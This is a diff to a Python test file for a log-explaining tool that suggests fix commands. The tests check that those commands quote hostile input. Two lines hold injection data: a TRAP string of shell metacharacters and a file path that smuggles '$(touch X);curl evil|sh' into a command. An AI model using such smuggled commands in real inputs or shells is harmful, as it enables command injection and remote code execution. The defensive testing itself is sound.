@@ -1,4 +1,8 @@
-"""The commands in the fixes: a shell reads each as it is shown, whatever the log contains, and the harmless ones work."""
+"""
+Fixes: they follow what the log says, and a shell reads their commands as they are shown, whatever the log contains.
+
+Commands run in a folder of their own in which no program exists; those that only read also run for real.
+"""
 
 import ast
 import re
@@ -8,6 +12,7 @@ import subprocess
 from collections.abc import Iterator, Mapping
 
 import pytest
+from log_samples import raised
 
 from paceline.cli import COMMANDS
 from paceline.explain.catalogue import load_catalogue
@@ -20,8 +25,16 @@ TEMPLATES = [
     for template in (cause.fix, *(fix.fix for fix in cause.fixes))
 ]
 COMMAND = re.compile(r"`([^`]*)`")
-TRAP = "$(pwned);pwned & pwned|pwned > x '\"$(pwned)\" ${IFS} # \\"
-LOCAL = {"path": ".", "host": "localhost", "master": "localhost", "port": "9", "tool": "ls", "library": "libc", "script": "."}
+TRAP = '$(pwned);pwned & pwned|pwned > x \'"$(pwned)" ${IFS} # \\'
+LOCAL = {
+    "path": ".",
+    "host": "localhost",
+    "master": "localhost",
+    "port": "9",
+    "tool": "ls",
+    "library": "libc",
+    "script": ".",
+}
 HARMLESS = {"df", "env", "free", "getent", "grep", "head", "id", "ip", "ldconfig", "ldd", "ls", "lscpu", "ps", "ss"}
 HARMLESS |= {"ulimit", "uname", "wc"}
 USERS_PART = re.compile(r"(?<![\w$-])[A-Z]{2,}(?![\w=])")  # such as DIR or PID
@@ -97,7 +110,68 @@ def test_harmless_commands_work_here():
     assert ran > 10
 
 
+def explain_text(text):
+    return explain([text.encode()])
+
+
 def test_a_hostile_path_of_a_log_is_quoted_in_its_fix():
-    log = b"FileNotFoundError: [Errno 2] No such file or directory: '/data/$(touch X);curl evil|sh/train.bin'\n"
-    fix = explain([b'Traceback (most recent call last):\n  File "t.py", line 1, in <module>\n' + log]).fix
-    assert "`ls -l '/data/$(touch X);curl evil|sh/train.bin'`" in fix
+    path = "/data/$(touch X);curl evil|sh/train.bin"
+    fix = explain_text(raised(0, f"FileNotFoundError: [Errno 2] No such file or directory: '{path}'")).fix
+    assert f"`ls -l '{path}'`" in fix
+
+
+@pytest.mark.parametrize(
+    ("module", "package"),
+    [
+        ("yaml", "PyYAML"),
+        ("PIL", "pillow"),
+        ("sklearn", "scikit-learn"),
+        ("cv2", "opencv-python-headless"),
+        ("einops", "einops"),
+    ],
+)
+def test_a_missing_module_names_the_package_that_contains_it(module, package):
+    fix = explain_text(raised(0, f"ModuleNotFoundError: No module named '{module}'")).fix
+    assert f"`python -m pip install {package}`" in fix
+
+
+def test_a_missing_submodule_is_another_version_of_its_package():
+    fix = explain_text(raised(0, "ModuleNotFoundError: No module named 'transformers.models.qwen3'")).fix
+    assert "`python -m pip install transformers==VERSION`" in fix and "install transformers.models" not in fix
+
+
+def test_the_class_to_allow_stands_in_its_list():
+    error = "_pickle.UnpicklingError: Weights only load failed. Unsupported global: GLOBAL numpy._core.multiarray.scalar was not"
+    fix = explain_text(raised(0, f"{error} an allowed global by default.")).fix
+    assert "from numpy._core.multiarray import scalar; torch.serialization.add_safe_globals([scalar])" in fix
+
+
+@pytest.mark.parametrize("wait", ["1800s", "1800000ms"])
+def test_a_timeout_is_shown_in_the_same_units_whatever_the_log_uses(wait):
+    error = f"The client socket has timed out after {wait} while trying to connect to (node-0, 29500)."
+    explanation = explain_text(raised(1, f"torch.distributed.DistNetworkError: {error}"))
+    assert "within 30m00s" in explanation.summary
+    assert "`nc -vz node-0 29500`" in explanation.fix
+
+
+def test_nobody_is_sent_to_their_own_loopback_address():
+    error = "The client socket has timed out after 60000ms while trying to connect to (127.0.0.1, 29500)."
+    assert "nc -vz" not in explain_text(raised(1, f"torch.distributed.DistNetworkError: {error}")).fix
+
+
+def test_a_loss_that_became_nan_is_explained_at_its_first_step():
+    steps = [f"step {step:05d}/00100 | loss {'nan' if step > 9 else 3 - step / 50}\n" for step in range(40)]
+    explanation = explain_text("".join(steps) + raised(None, "FloatingPointError: loss is nan, stopping"))
+    assert (explanation.cause, explanation.step, explanation.evidence[0].line) == ("loss-nan", 10, 11)
+    assert "step 10" in explanation.summary
+
+
+def test_memory_that_the_optimizer_lacks_is_no_matter_of_the_batch():
+    frames = "".join(
+        f'  File "/env/torch/optim/adamw.py", line {n}, in {name}\n'
+        for n, name in ((220, "step"), (146, "_init_group"))
+    )
+    fix = explain_text(
+        f"Traceback (most recent call last):\n{frames}torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 2.00 GiB.\n"
+    ).fix
+    assert fix.startswith("shard the optimizer's state")
